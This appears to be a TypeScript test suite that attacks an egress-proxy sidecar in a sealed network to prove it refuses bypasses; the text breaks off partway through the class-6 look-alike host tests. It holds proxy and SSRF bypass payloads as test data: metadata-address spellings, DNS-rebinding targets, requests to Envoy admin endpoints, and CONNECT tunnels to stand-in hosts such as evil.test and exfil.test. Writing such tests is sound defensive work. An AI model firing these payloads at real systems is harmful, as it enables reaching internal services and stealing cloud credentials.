/**
 * The bypass suite: every attack class of research/bypass-catalogue.md, with the variants a careful
 * attacker would try, against a real Envoy sidecar in a sealed world (test/support/netns-world.ts):
 * the agent sits in a network namespace whose only reachable address is the sidecar listener, and
 * everything the sidecar could be tricked into dialling (metadata, RFC 1918, loopback, the
 * control plane's ports, an "evil" host) is a trap that fails the run if it ever gets a connection.
 *
 * Every variant asserts three things:
 * 1. the attack was really attempted: the sidecar accepted the connection (Envoy's own listener
 *    counter moved), except for classes 1 and 18, which must fail at the network layer;
 * 2. it failed: the sidecar refused (403/400/503-guard/closed), opened no upstream connection,
 *    and no trap was reached; or, for "benign" variants (e.g. a Host header that disagrees with the
 *    URI), the request reached only the allowed upstream, as the allowed host;
 * 3. the decision names the agent and the reason (harness.ts `decisionFor`: the decision API when
 *    it answers, else `exitgate check` + Envoy's evidence).
 *
 * Linux and root only (CI has both); elsewhere skipped with the reason printed.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parsePolicyText, crossCheck } from '../../src/policy/parse';
import { formatPolicyError } from '../../src/policy/errors';
import { IP_BIN, routesOf } from '../support/netns';
import { FORBIDDEN_ADDRESSES, SEALED, startSealedWorld, type SealedWorld } from '../support/netns-world';
import {
  attempt,
  chooseDecisionsMode,
  countedVariant,
  countVariant,
  decisionFor,
  decisionsModeWhy,
  describeEvidence,
  describeIfSealed,
  evidenceSince,
  failOnNewTrapHits,
  header,
  mark,
  noteClass,
  refusal,
  registerClass,
  STAT,
  summary,
  tlsExchange,
  type Evidence,
  type ExchangeOptions,
} from './harness';
import { reportSummary } from '../support/run-summary';

const NODE = { tenant: 'acme', agent: 'coder', instance: 'sealed-1' };
const describeSealed = describeIfSealed('bypass suite');

// ---------------------------------------------------------------------------------------------
// Which optional product features exist in this build (the suite grows with the product)

function accepts(yaml: string): { ok: boolean; why: string } {
  const parsed = parsePolicyText('probe.yaml', yaml);
  const errors = [...parsed.errors, ...crossCheck({ policies: parsed.policies, credentials: parsed.credentials })];
  return errors.length === 0 ? { ok: true, why: '' } : { ok: false, why: errors.map(formatPolicyError).join('; ') };
}

const L7_RULE = `    - name: l7
      hosts: ["l7.allowed.test"]
      ports: [80]
      http:
        methods: ["GET"]
        paths: ["/v1/*"]
`;
const CRED_RULE = `    - name: cred
      hosts: ["cred.allowed.test"]
      ports: [443]
      tls: originate
      credential: cred-key
`;
const credentialDoc = (file: string): string => `---
apiVersion: exitgate.dev/v1
kind: Credential
metadata: { name: cred-key, tenant: acme }
spec:
  header: Authorization
  prefix: "Bearer "
  source: { file: ${JSON.stringify(file)} }
`;
const probeHead = `apiVersion: exitgate.dev/v1
kind: EgressPolicy
metadata: { name: probe, tenant: acme }
spec:
  agents: ["coder"]
  allow:
`;
const L7 = accepts(probeHead + L7_RULE);
const CREDS = accepts(probeHead + CRED_RULE + credentialDoc('/nonexistent'));
const INJECTED_SECRET = 's3cr3t-injected-by-envoy';

function policies(p: { xdsPort: number; adminPort: number; workDir: string }): Record<string, string> {
  const secretFile = path.join(p.workDir, 'cred-secret.txt');
  if (CREDS.ok) fs.writeFileSync(secretFile, INJECTED_SECRET, { mode: 0o600 });
  return {
    'acme.yaml': `apiVersion: exitgate.dev/v1
kind: EgressPolicy
metadata: { name: coder-egress, tenant: acme }
spec:
  agents: ["coder"]
  allow:
    - name: api
      hosts: ["api.allowed.test"]
      ports: [443]
    - name: cdn
      hosts: ["*.cdn.allowed.test"]
      ports: [443]
    - name: plain
      hosts: ["plain.allowed.test"]
      ports: [80]
    # Allowed names whose DNS answers are hostile (class 5).
    - name: rebind
      hosts: ["*.rebind.test"]
      ports: [80, 443]
    # The control plane and an Envoy admin port, by name: allowed by policy, stopped by the guard.
    - name: control-plane
      hosts: ["xds.internal.test", "admin.internal.test", "xds6.internal.test", "envoy-admin.internal.test"]
      ports: [${p.xdsPort}, ${p.adminPort}, 9901, 15000]
${L7.ok ? L7_RULE : ''}${CREDS.ok ? CRED_RULE : ''}  deny:
    - name: no-evil-cdn
      hosts: ["evil.cdn.allowed.test"]
${CREDS.ok ? credentialDoc(secretFile) : ''}---
apiVersion: exitgate.dev/v1
kind: EgressPolicy
metadata: { name: other-agent, tenant: acme }
spec:
  agents: ["someone-else"]
  allow:
    - name: exfil
      hosts: ["exfil.test", "evil.test"]
      ports: [80, 443]
`,
    'globex.yaml': `apiVersion: exitgate.dev/v1
kind: EgressPolicy
metadata: { name: everyone, tenant: globex }
spec:
  agents: ["*"]
  allow:
    - name: globex
      hosts: ["globex.test", "evil.test"]
      ports: [80, 443]
`,
  };
}

/** Hostile DNS: allowed names that resolve into every guarded range (class 5). */
const REBIND: ReadonlyArray<{ name: string; a?: string[]; aaaa?: string[]; what: string }> = [
  { name: 'ten.rebind.test', a: ['10.0.0.5'], what: '10/8' },
  { name: 'meta.rebind.test', a: ['169.254.169.254'], what: 'metadata 169.254.169.254' },
  { name: 'cgnat.rebind.test', a: ['100.64.0.5'], what: 'CGNAT 100.64/10' },
  { name: 'rfc172.rebind.test', a: ['172.16.0.5'], what: '172.16/12' },
  { name: 'rfc192.rebind.test', a: ['192.168.0.5'], what: '192.168/16' },
  { name: 'loop.rebind.test', a: ['127.0.0.1'], what: 'loopback 127.0.0.1' },
  { name: 'loop2.rebind.test', a: ['127.0.0.2'], what: 'loopback 127.0.0.2' },
  { name: 'zero.rebind.test', a: ['0.0.0.0'], what: 'unspecified 0.0.0.0 (= this host)' },
  { name: 'mcast.rebind.test', a: ['224.0.0.1'], what: 'multicast' },
  { name: 'bcast.rebind.test', a: ['255.255.255.255'], what: 'broadcast' },
  { name: 'loop6.rebind.test', aaaa: ['::1'], what: 'IPv6 loopback ::1' },
  { name: 'meta6.rebind.test', aaaa: ['fd00:ec2::254'], what: 'AWS metadata fd00:ec2::254' },
  { name: 'll6.rebind.test', aaaa: ['fe80::5'], what: 'link-local fe80::' },
  { name: 'mapped.rebind.test', aaaa: ['::ffff:169.254.169.254'], what: 'IPv4-mapped ::ffff:169.254.169.254' },
  { name: 'mapped-loop.rebind.test', aaaa: ['::ffff:127.0.0.1'], what: 'IPv4-mapped loopback' },
  { name: 'nat64.rebind.test', aaaa: ['64:ff9b::a9fe:a9fe'], what: 'NAT64 64:ff9b::a9fe:a9fe' },
  { name: 'compat.rebind.test', aaaa: ['::a9fe:a9fe'], what: 'IPv4-compatible ::169.254.169.254' },
  { name: 'ula.rebind.test', aaaa: ['fc00::5'], what: 'unique-local fc00::/7' },
  { name: 'both-bad.rebind.test', a: ['10.0.0.5'], aaaa: ['fd00:ec2::254'], what: 'A and AAAA both guarded' },
];

// IPv4 spellings that inet_aton, browsers or URL parsers accept for the same address.
function v4Spellings(ip: string): Array<[string, string]> {
  const o = ip.split('.').map(Number) as [number, number, number, number];
  const n = ((o[0] << 24) >>> 0) + (o[1] << 16) + (o[2] << 8) + o[3];
  return [
    ['dotted', ip],
    ['decimal', String(n)],
    ['hex', `0x${n.toString(16)}`],
    ['octal', o.map((x) => `0${x.toString(8)}`).join('.')],
    ['hex octets', o.map((x) => `0x${x.toString(16)}`).join('.')],
    ['a.b.c', `${o[0]}.${o[1]}.${(o[2] << 8) + o[3]}`],
    ['a.b', `${o[0]}.${(o[1] << 16) + (o[2] << 8) + o[3]}`],
    ['zero-padded', o.map((x) => String(x).padStart(3, '0')).join('.')],
    ['trailing dot', `${ip}.`],
    ['mapped dotted', `[::ffff:${ip}]`],
    ['mapped hex', `[::ffff:${((o[0] << 8) + o[1]).toString(16)}:${((o[2] << 8) + o[3]).toString(16)}]`],
    ['NAT64', `[64:ff9b::${ip}]`],
    ['compat', `[::${ip}]`],
  ];
}

const REASON = {
  nothing: /no rule matches|IP literal matches no rule|default-deny|matched no/i,
  denyRule: /no-evil-cdn/,
  guard: /guard/i,
  any: /\S/,
};

describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
  let world: SealedWorld;
  const started = performance.now();

  beforeAll(async () => {
    world = await startSealedWorld({
      node: NODE,
      tlsNames: ['api.allowed.test', 'x.cdn.allowed.test', 'mixed.rebind.test', 'public.rebind.test', 'cred.allowed.test'],
      policies,
    });
    const d = world.dns;
    d.setFallback([SEALED.evil]); // anything unexpected lands on the evil trap
    d.setRecord('api.allowed.test', [SEALED.tlsUpstream]);
    d.setRecord('*.cdn.allowed.test', [SEALED.tlsUpstream]);
    d.setRecord('cdn.allowed.test', [SEALED.evil]);
    d.setRecord('evil.cdn.allowed.test', [SEALED.evil]);
    for (const n of ['plain.allowed.test', 'l7.allowed.test']) d.setRecord(n, [SEALED.httpUpstream]);
    d.setRecord('cred.allowed.test', [SEALED.tlsUpstream]);
    d.setRecord('*.rebind.test', [SEALED.tlsUpstream]);
    for (const r of REBIND) d.setRecord(r.name, r.a ?? [], r.aaaa ?? []);
    d.setRecord('mixed.rebind.test', [SEALED.tlsUpstream, '10.0.0.5']);
    d.setRecord('mixed-first.rebind.test', ['10.0.0.5', SEALED.tlsUpstream]);
    d.setRecord('dual.rebind.test', [SEALED.tlsUpstream], ['fd00:ec2::254']);
    for (const n of ['xds.internal.test', 'admin.internal.test', 'envoy-admin.internal.test']) d.setRecord(n, ['127.0.0.1']);
    d.setRecord('xds6.internal.test', [], ['::1']);
    const mode = await chooseDecisionsMode(world);
    console.log(`sealed world up in ${((performance.now() - started) / 1000).toFixed(1)} s; decisions from ${mode} (${decisionsModeWhy})\n${world.describe()}`);
  }, 120_000);

  afterEach(() => failOnNewTrapHits(world));

  afterAll(async () => {
    reportSummary(summary());
    console.log(`bypass suite time: ${((performance.now() - started) / 1000).toFixed(1)} s`);
    await world?.stop();
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // The variant runner

  type Outcome = 'refused' | 'guard' | 'benign';
  interface Variant {
    name: string;
    payload: string | Buffer | null;
    /** What `exitgate check` should be asked about (the destination the request names), or null. */
    intended: string | null;
    outcome?: Outcome;
    reason?: RegExp;
    opts?: ExchangeOptions;
    /** For benign variants: the Host the allowed upstream may see. */
    benignHost?: RegExp;
    extra?: (ev: Evidence) => void;
  }

  const connectReq = (target: string, hostHeader: string | null = target, extra = ''): string =>
    `CONNECT ${target} HTTP/1.1\r\n${hostHeader === null ? '' : `Host: ${hostHeader}\r\n`}${extra}\r\n`;
  const getReq = (uri: string, hostHeader: string | null, extra = '', method = 'GET', version = 'HTTP/1.1'): string =>
    `${method} ${uri} ${version}\r\n${hostHeader === null ? '' : `Host: ${hostHeader}\r\n`}Connection: close\r\n${extra}\r\n`;

  const FORBIDDEN_IN_REQUEST = /evil|169\.254|10\.0\.0\.5|127\.0\.0\.1|exfil|globex/i;

  async function run(cls: number, v: Variant): Promise<Evidence> {
    let refused = false;
    let decisionOk = false;
    try {
      const isConnect = typeof v.payload === 'string' && /^CONNECT /i.test(v.payload);
      const ev = await attempt(world, v.payload, { connect: isConnect, ...v.opts });
      const info = `${v.name}: ${describeEvidence(ev)}`;
      if (!ev.reachedSidecar) throw new Error(`not attempted: the sidecar accepted no connection. ${info}`);
      const how = refusal(ev);
      const outcome = v.outcome ?? 'refused';
      if (outcome === 'benign' && how === null) {
        // Forwarded: only to the allowed upstream, as the allowed host, never naming the target.
        const seen = [...ev.httpUpstream.requests, ...ev.tlsUpstream.requests];
        for (const r of seen) {
          const host = String(r.headers.host ?? '');
          if (!(v.benignHost ?? /^plain\.allowed\.test(:80)?$/).test(host)) throw new Error(`forwarded with Host ${JSON.stringify(host)}. ${info}`);
          if (FORBIDDEN_IN_REQUEST.test(`${r.url} ${host}`)) throw new Error(`forwarded a request naming a forbidden host: ${r.method} ${r.url}. ${info}`);
        }
      } else {
        if (how === null) throw new Error(`NOT REFUSED. ${info}`);
        // A benign variant may have reached the allowed upstream before the refusal; traps catch the rest.
        if (outcome !== 'benign' && ev.upstreamConnections !== 0) throw new Error(`refused, but the sidecar opened ${ev.upstreamConnections} upstream connection(s). ${info}`);
        if (outcome === 'guard' && !/guard|DNS resolution/.test(how)) throw new Error(`expected the guard to refuse, got "${how}". ${info}`);
      }
      v.extra?.(ev);
      refused = true;
      const d = await decisionFor(world, ev, v.intended);
      const dInfo = `decision ${JSON.stringify({ ...d, all: undefined })}. ${info}`;
      if (d.tenant !== NODE.tenant || d.agent !== NODE.agent) throw new Error(`the decision does not name the agent: ${dInfo}`);
      if (!d.reason.trim()) throw new Error(`the decision gives no reason: ${dInfo}`);
      if (how !== null) {
        if (d.verdict === 'allow') throw new Error(`the sidecar refused but the decision says allow: ${dInfo}`);
        if (v.reason && !v.reason.test(d.reason)) throw new Error(`the decision's reason does not match ${v.reason}: ${dInfo}`);
      } else if (d.host !== undefined && FORBIDDEN_IN_REQUEST.test(d.host)) {
        throw new Error(`the decision allowed a forbidden host: ${dInfo}`);
      }
      decisionOk = true;
      return ev;
    } finally {
      countVariant(cls, refused, decisionOk);
    }
  }

  const each = (cls: number, title: string, variants: Variant[]): void => {
    registerClass(cls, title);
    it.each(variants.map((v) => [v.name, v] as const))(`#${cls} %s`, async (_name, v) => {
      await run(cls, v);
    });
  };

  // -------------------------------------------------------------------------------------------
  // Sanity: the world is sealed, and allowed traffic works (so refusals mean something)

  describe('the sealed world', () => {
    it('gives the agent one route (the /30 to the sidecar) and the world no default route', () => {
      const agentRoutes = routesOf(world.agentNs).filter((r) => !/^(local|broadcast) /.test(r));
      expect(agentRoutes).toEqual([expect.stringMatching(/^198\.18\.0\.0\/30 dev ega/)]);
      for (const r of routesOf(world.worldNs)) expect(r).not.toMatch(/^default/);
    });

    it('runs the agent as nobody', async () => {
      expect((await world.agent.info()).uid).toBe(65534);
    });

    it('lets allowed traffic through: TLS over CONNECT and plain HTTP', async () => {
      const ev = await attempt(world, connectReq('api.allowed.test:443'), { connect: true, keepTunnel: true });
      expect(ev.exchange.tunnel).toBeDefined();
      const body = await tlsExchange(world, ev.exchange.tunnel!, 'api.allowed.test', 'GET /hello HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n');
      expect(body).toMatch(/^HTTP\/1\.1 200/);
      expect(body).toContain('"upstream":"tls-upstream"');
      const plain = await attempt(world, getReq('http://plain.allowed.test/ping', 'plain.allowed.test'));
      expect(plain.final?.status).toBe(200);
      expect(plain.httpUpstream.requests.map((r) => r.url)).toEqual(['/ping']);
      const d = await decisionFor(world, plain, 'http://plain.allowed.test/ping');
      expect(d).toMatchObject({ tenant: 'acme', agent: 'coder', verdict: 'allow' });
    });
  });

  // -------------------------------------------------------------------------------------------
  // 1. Direct connections that ignore the proxy: must fail at the network layer.

  describe('#1 direct connections from the agent namespace', () => {
    registerClass(1, 'direct connection ignoring the proxy');
    const targets: Array<[string, string, number]> = [
      ['the TLS upstream', SEALED.tlsUpstream, 443],
      ['the HTTP upstream', SEALED.httpUpstream, 80],
      ['the evil host', SEALED.evil, 443],
      ['the DNS server (TCP)', SEALED.dns, 53],
      ...FORBIDDEN_ADDRESSES.filter((f) => !f.ip.startsWith('fe80')).map((f): [string, string, number] => [f.name, f.ip, 80]),
      ['the sidecar address, another port (80)', SEALED.sidecar, 80],
      ['the sidecar address, another port (443)', SEALED.sidecar, 443],
      ['the sidecar address, an Envoy admin port (9901)', SEALED.sidecar, 9901],
      ['the sidecar address, the DNS port', SEALED.sidecar, 53],
      ['the agent namespace loopback, the listener port', '127.0.0.1', SEALED.listenPort],
      ['the agent namespace loopback, 443', '127.0.0.1', 443],
      ['IPv6 loopback', '::1', 443],
      ['the /30 broadcast address', '198.18.0.3', 443],
      ['an unrelated public-looking address', '192.0.2.10', 443],
    ];
    it.each(targets)('#1 TCP to %s (%s:%d) fails', async (_what, host, port) => {
      await countedVariant(1, async () => {
        const r = await world.agent.connectTcp(host, port, 1500);
        r.socket?.destroy();
        expect({ host, port, connected: !!r.socket }).toEqual({ host, port, connected: false });
        expect(r.error).toMatch(/^(ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|ETIMEDOUT|EACCES|EADDRNOTAVAIL)$/);
      });
    });

    it('#1 the agent cannot give itself a route, an address or a raw socket (no CAP_NET_ADMIN / CAP_NET_RAW)', async () => {
      await countedVariant(1, async () => {
        for (const args of [
          ['route', 'add', 'default', 'via', SEALED.sidecar],
          ['route', 'add', '10.0.0.0/8', 'via', SEALED.sidecar],
          ['addr', 'add', '169.254.169.1/16', 'dev', 'lo'],
          ['link', 'set', 'lo', 'down'],
        ]) {
          const r = await world.agent.run(IP_BIN, args);
          expect({ args, status: r.status }).not.toEqual({ args, status: 0 });
          expect(r.output).toMatch(/Operation not permitted|RTNETLINK answers/);
        }
        expect(routesOf(world.agentNs).some((l) => l.startsWith('default') || l.startsWith('10.0.0.0'))).toBe(false);
      });
    });

    it("#1 the agent cannot open the sidecar's admin socket or the xDS relay socket", async () => {
      await countedVariant(1, async () => {
        expect(await world.agent.unixConnect(world.sidecar.adminSocketPath)).toEqual({ connected: false, error: 'EACCES' });
        expect(await world.agent.unixConnect(world.xdsRelayPath)).toEqual({ connected: false, error: 'EACCES' });
      });
    });
  });

  // -------------------------------------------------------------------------------------------
  // 2. CONNECT to a host not on the allowlist

  each(2, 'CONNECT to an unlisted host', [
    { name: 'evil.test:443', payload: connectReq('evil.test:443'), intended: 'evil.test:443', reason: REASON.nothing },
    { name: 'evil.test:80', payload: connectReq('evil.test:80'), intended: 'evil.test:80', reason: REASON.nothing },
    { name: 'upper case EVIL.TEST:443', payload: connectReq('EVIL.TEST:443'), intended: 'EVIL.TEST:443', reason: REASON.nothing },
    { name: 'trailing dot evil.test.:443', payload: connectReq('evil.test.:443'), intended: 'evil.test.:443', reason: REASON.nothing },
    { name: 'HTTP/1.0 CONNECT', payload: 'CONNECT evil.test:443 HTTP/1.0\r\n\r\n', intended: 'evil.test:443' },
    { name: 'no Host header', payload: connectReq('evil.test:443', null), intended: 'evil.test:443' },
    { name: 'Host header names an allowed host', payload: connectReq('evil.test:443', 'api.allowed.test:443'), intended: 'evil.test:443' },
    { name: 'with Proxy-Authorization', payload: connectReq('evil.test:443', 'evil.test:443', 'Proxy-Authorization: Basic YWRtaW46YWRtaW4=\r\n'), intended: 'evil.test:443' },
    { name: "a host another agent of the tenant may reach (exfil.test)", payload: connectReq('exfil.test:443'), intended: 'exfil.test:443', reason: REASON.nothing },
    { name: 'a host the same agent name may reach in another tenant (globex.test)', payload: connectReq('globex.test:443'), intended: 'globex.test:443', reason: REASON.nothing },
    { name: 'absolute URI as CONNECT target', payload: 'CONNECT http://evil.test:443/ HTTP/1.1\r\nHost: evil.test:443\r\n\r\n', intended: null },
    { name: 'lower-case method "connect"', payload: 'connect evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n', intended: null },
    { name: 'a subdomain of an unlisted host', payload: connectReq('a.b.evil.test:443'), intended: 'a.b.evil.test:443', reason: REASON.nothing },
    { name: 'CONNECT with early data (the tunnel bytes sent before the reply)', payload: `${connectReq('evil.test:443')}\x16\x03\x01\x00\x05hello`, intended: 'evil.test:443' },
    // CONNECT target syntax: no port, two colons, brackets, separators
    ...[
      'evil.test',
      'api.allowed.test',
      'plain.allowed.test',
      'evil.test:',
      ':443',
      'api.allowed.test:443:443',
      'evil.test:443:443',
      'api.allowed.test:443:8443',
      'api.allowed.test:443@evil.test:443',
      'evil.test@api.allowed.test:443',
      '[api.allowed.test]:443',
      '[evil.test]:443',
      '[::1]:443]',
      '[[::1]]:443',
      '[::1]]:443',
      'api.allowed.test]:443',
      'api.allowed.test:443#evil.test',
      'api.allowed.test:443/evil.test',
      'evil.test:443/api.allowed.test:443',
      'api.allowed.test:443?evil.test',
      'api.allowed.test,evil.test:443',
      'api.allowed.test;evil.test:443',
      `[::ffff:${SEALED.evil}]:443`,
      'user:pass@evil.test:443',
    ].map((t): Variant => ({ name: `CONNECT target ${JSON.stringify(t)}`, payload: connectReq(t), intended: null })),
    { name: 'CONNECT target with a space before the port', payload: connectReq('api.allowed.test :443'), intended: null },
  ]);

  // -------------------------------------------------------------------------------------------
  // 3. Allowed host, port not in the rule

  each(3, 'allowed host on a port not in the rule', [
    { name: 'api.allowed.test:8443', payload: connectReq('api.allowed.test:8443'), intended: 'api.allowed.test:8443', reason: REASON.nothing },
    { name: 'api.allowed.test:80', payload: connectReq('api.allowed.test:80'), intended: 'api.allowed.test:80', reason: REASON.nothing },
    { name: 'api.allowed.test:22', payload: connectReq('api.allowed.test:22'), intended: 'api.allowed.test:22', reason: REASON.nothing },
    { name: 'port 0', payload: connectReq('api.allowed.test:0'), intended: null },
    { name: 'port 65536 (443 + 65536 * 1 = 66979)', payload: connectReq('api.allowed.test:66979'), intended: null },
    { name: 'leading zero port 08443', payload: connectReq('api.allowed.test:08443'), intended: null },
    { name: 'port with sign +8443', payload: connectReq('api.allowed.test:+8443'), intended: null },
    { name: 'hex port 0x20fb', payload: connectReq('api.allowed.test:0x20fb'), intended: null },
    { name: 'x.cdn.allowed.test:8443 (wildcard rule, wrong port)', payload: connectReq('x.cdn.allowed.test:8443'), intended: 'x.cdn.allowed.test:8443', reason: REASON.nothing },
    { name: 'plain.allowed.test over CONNECT :443 (rule is port 80)', payload: connectReq('plain.allowed.test:443'), intended: 'plain.allowed.test:443', reason: REASON.nothing },
    { name: 'plain.allowed.test over CONNECT :8080', payload: connectReq('plain.allowed.test:8080'), intended: 'plain.allowed.test:8080', reason: REASON.nothing },
    { name: 'http://plain.allowed.test:8080/', payload: getReq('http://plain.allowed.test:8080/', 'plain.allowed.test:8080'), intended: 'http://plain.allowed.test:8080/', reason: REASON.nothing },
    { name: 'http://plain.allowed.test:8080/ with Host :80', payload: getReq('http://plain.allowed.test:8080/', 'plain.allowed.test:80'), intended: 'http://plain.allowed.test:8080/', reason: REASON.nothing },
    { name: 'http://api.allowed.test/ (port 80 implied, rule is 443)', payload: getReq('http://api.allowed.test/', 'api.allowed.test'), intended: 'http://api.allowed.test/', reason: REASON.nothing },
    { name: 'http://api.allowed.test:8443/', payload: getReq('http://api.allowed.test:8443/', 'api.allowed.test:8443'), intended: 'http://api.allowed.test:8443/', reason: REASON.nothing },
  ]);

  // -------------------------------------------------------------------------------------------
  // 4. IP-literal destinations under a hostname-only policy, every spelling

  const ipVariants: Variant[] = [];
  for (const [ip, port, label] of [
    [SEALED.tlsUpstream, 443, 'the allowed TLS upstream'],
    ['127.0.0.1', 443, 'loopback'],
    ['169.254.169.254', 80, 'metadata'],
    ['10.0.0.5', 443, '10/8'],
  ] as const) {
    for (const [how, spelled] of v4Spellings(ip)) {
      ipVariants.push({ name: `CONNECT ${label} ${how} ${spelled}:${port}`, payload: connectReq(`${spelled}:${port}`), intended: `${spelled}:${port}` });
    }
  }
  for (const [how, spelled] of v4Spellings(SEALED.httpUpstream).concat(v4Spellings('169.254.169.254'))) {
    ipVariants.push({ name: `GET http://${spelled}/ (${how})`, payload: getReq(`http://${spelled}/latest/meta-data/`, spelled), intended: `http://${spelled}/latest/meta-data/` });
  }
  for (const [name, target] of [
    ['IPv6 loopback [::1]', '[::1]:443'],
    ['IPv6 loopback long form', '[0:0:0:0:0:0:0:1]:443'],
    ['IPv6 loopback with zone %25lo', '[::1%25lo]:443'],
    ['IPv6 loopback with raw zone %lo', '[::1%lo]:443'],
    ['IPv6 unspecified [::]', '[::]:443'],
    ['IPv4 unspecified 0.0.0.0', '0.0.0.0:443'],
    ['IPv4 "0"', '0:443'],
    ['metadata IPv6 fd00:ec2::254', '[fd00:ec2::254]:80'],
    ['link-local fe80::5 with zone', '[fe80::5%25lo]:80'],
    ['NAT64 of metadata', '[64:ff9b::a9fe:a9fe]:80'],
    ['CGNAT 100.64.0.5', '100.64.0.5:443'],
    ['172.16.0.5', '172.16.0.5:443'],
    ['192.168.0.5', '192.168.0.5:443'],
    ['the evil host by address', `${SEALED.evil}:443`],
    ['localhost', 'localhost:443'],
    ['localhost.', 'localhost.:443'],
    ['IPv6 literal without brackets', '::1:443'],
    ['bracketed IPv4', `[${SEALED.tlsUpstream}]:443`],
  ] as const) {
    ipVariants.push({ name: `CONNECT ${name} (${target})`, payload: connectReq(target), intended: target });
  }
  for (const uri of ['http://[::1]/', 'http://[fd00:ec2::254]/latest/', 'http://[::ffff:a9fe:a9fe]/', 'http://[fe80::5%25lo]/', 'http://0/', 'http://localhost/', 'http://[::ffff:198.51.100.3]/']) {
    ipVariants.push({ name: `GET ${uri}`, payload: getReq(uri, uri.slice(7, -1).replace(/\/.*$/, '')), intended: uri });
  }
  each(4, 'IP-literal destination under a hostname-only policy', ipVariants);

  // -------------------------------------------------------------------------------------------
  // 5. Allowed names that resolve into guarded ranges (DNS rebinding)

  const rebindVariants: Variant[] = [];
  for (const r of REBIND) {
    rebindVariants.push({ name: `CONNECT ${r.name}:443 -> ${r.what}`, payload: connectReq(`${r.name}:443`), intended: `${r.name}:443`, outcome: 'guard', reason: REASON.guard });
    rebindVariants.push({ name: `GET http://${r.name}/ -> ${r.what}`, payload: getReq(`http://${r.name}/latest/meta-data/`, r.name), intended: `http://${r.name}/latest/meta-data/`, outcome: 'guard', reason: REASON.guard });
  }
  rebindVariants.push(
    { name: 'the control plane xDS port by name (xds.internal.test -> 127.0.0.1)', payload: '', intended: null, outcome: 'guard', reason: REASON.guard },
    { name: 'the control plane admin API by name (admin.internal.test -> 127.0.0.1)', payload: '', intended: null, outcome: 'guard', reason: REASON.guard },
    { name: 'the control plane xDS port by name over IPv6 (xds6.internal.test -> ::1)', payload: '', intended: null, outcome: 'guard', reason: REASON.guard },
    { name: 'an Envoy admin port by name (envoy-admin.internal.test:9901 -> 127.0.0.1)', payload: connectReq('envoy-admin.internal.test:9901'), intended: 'envoy-admin.internal.test:9901', outcome: 'guard', reason: REASON.guard },
    { name: 'an Envoy admin port by name, plain HTTP (http://envoy-admin.internal.test:15000/config_dump)', payload: getReq('http://envoy-admin.internal.test:15000/config_dump', 'envoy-admin.internal.test:15000'), intended: 'http://envoy-admin.internal.test:15000/config_dump', outcome: 'guard', reason: REASON.guard },
  );
  registerClass(5, 'allowed name resolving to a guarded address (rebinding)');
  describe('#5 rebinding', () => {
    it.each(rebindVariants.map((v) => [v.name, v] as const))('#5 %s', async (_n, v) => {
      // The control-plane targets need the ports, known only once the world is up.
      const cp = world.cp;
      const fill = (x: Variant): Variant => {
        if (x.name.startsWith('the control plane xDS port by name (')) return { ...x, payload: connectReq(`xds.internal.test:${cp.xdsPort}`), intended: `xds.internal.test:${cp.xdsPort}` };
        if (x.name.startsWith('the control plane admin API')) return { ...x, payload: getReq(`http://admin.internal.test:${cp.adminPort}/v1/nodes`, `admin.internal.test:${cp.adminPort}`), intended: `http://admin.internal.test:${cp.adminPort}/v1/nodes` };
        if (x.name.startsWith('the control plane xDS port by name over IPv6')) return { ...x, payload: connectReq(`xds6.internal.test:${cp.xdsPort}`), intended: `xds6.internal.test:${cp.xdsPort}` };
        return x;
      };
      const ev = await run(5, fill(v));
      // The attack was really tried: the sidecar looked the (allowed) name up.
      expect(ev.dnsNames.length + (ev.delta.get(STAT.guardFilteredOut) ?? 0)).toBeGreaterThan(0);
    });

    it('#5 a name with one permitted and one guarded address uses only the permitted one (both orders)', async () => {
      for (const name of ['mixed.rebind.test', 'mixed-first.rebind.test', 'dual.rebind.test']) {
        await countedVariant(5, async () => {
          const ev = await attempt(world, connectReq(`${name}:443`), { connect: true });
          expect({ name, status: ev.final?.status }).toEqual({ name, status: 200 });
          expect(ev.tlsUpstream.connections).toBe(1);
        });
      }
    });

    it('#5 a name that rebinds after it was first resolved is never dialled at its new address', async () => {
      await countedVariant(5, async () => {
        const name = 'public.rebind.test';
        world.dns.setRecord(name, [SEALED.tlsUpstream]);
        const first = await attempt(world, connectReq(`${name}:443`), { connect: true });
        expect(first.final?.status).toBe(200);
        world.dns.setRecord(name, ['169.254.169.254']);
        const before = await world.sidecar.envoy.stats(STAT.dnsQueries);
        // dns_refresh_rate is 5 s: wait until the sidecar re-resolved the name.
        await world.sidecar.envoy.waitFor(
          async () => world.dns.queries.some((q) => q.name.toLowerCase() === name && q.at > Date.now() - 200) && (await world.sidecar.envoy.stats(STAT.dnsQueries)).get(STAT.dnsQueries)! > before.get(STAT.dnsQueries)!,
          12_000,
          're-resolution of the rebinding name',
        );
        await new Promise((r) => setTimeout(r, 100));
        for (let i = 0; i < 3; i++) {
          const again = await attempt(world, connectReq(`${name}:443`), { connect: true });
          // Either the last permitted address is kept or the name is refused; never the new one.
          if (again.final?.status === 200) expect(again.tlsUpstream.connections).toBe(1);
          else expect(refusal(again)).toMatch(/guard|DNS/);
          const plain = await attempt(world, getReq(`http://${name}/latest/meta-data/`, name));
          expect(plain.final?.status).not.toBe(200);
        }
        noteClass(5, 'time-of-check rebinding (public -> metadata after a refresh) included');
      });
    }, 30_000);
  });

  // -------------------------------------------------------------------------------------------
  // 6. Host-name look-alikes, and every spelling of a denied name

  each(6, 'host-name look-alikes and denied-name spellings', [
    ...[
      'api.allowed.test.evil.test',
      'evilapi.allowed.test',
      'apiallowed.test',
      'api-allowed.test',
      'api.allowed.tes',
      'api.allowed.test.test',
      'xapi.allowed.test',
      'api.allowedtest',
      'allowed.test',
      'api.allowed.test-evil.test',
      'cdn.allowed.test',
      'evilcdn.allowed.test',
      'x.cdn.allowed.test.evil.test',
      'xn--pi-7ld.allowed.test',
      'api.allowed.test..',
      '.api.allowed.test',
      'api..allowed.test',
    ].map((h): Variant => ({ name: `${h}:443`, payload: connectReq(`${h}:443`), intended: `${h}:443`, reason: REASON.nothing })),
    // A literal "*" label is a name below *.cdn.allowed.test, so the wildcard allows it (check agrees);
    // whoever runs cdn.allowed.test's DNS decides where it goes. It must reach only the allowed upstream.
